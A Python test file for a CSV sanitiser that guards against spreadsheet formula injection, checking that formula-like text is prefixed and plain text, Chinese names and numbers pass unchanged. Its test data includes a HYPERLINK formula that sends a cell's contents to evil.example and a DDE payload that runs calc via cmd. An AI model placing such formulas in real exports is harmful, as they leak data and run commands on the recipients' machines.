"""shared.csvcells: text cells a spreadsheet would run as a formula are prefixed with ' (OWASP)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from shared.csvcells import safe_cell, safe_row


@pytest.mark.parametrize("text", ["=1+2", '=HYPERLINK("http://evil.example/?x="&B2,"点击")', "+86", "-5", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_formula_text_is_prefixed(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["王小英", "", "350505100", "a=b", " =1", "'=1", "欧**英", "QGS000000000001"])
def test_plain_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [Decimal("-12.50"), Decimal("1060.00"), -3, 0, 2.5, -0.5, None, True, False])
def test_numbers_and_non_text_are_unchanged(value):
    assert safe_cell(value) is value


def test_row_through_csv_writer():
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(safe_row(["=cmd|' /C calc'!A0", Decimal("-1.00"), "张三"]))
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=cmd|' /C calc'!A0", "-1.00", "张三"]]
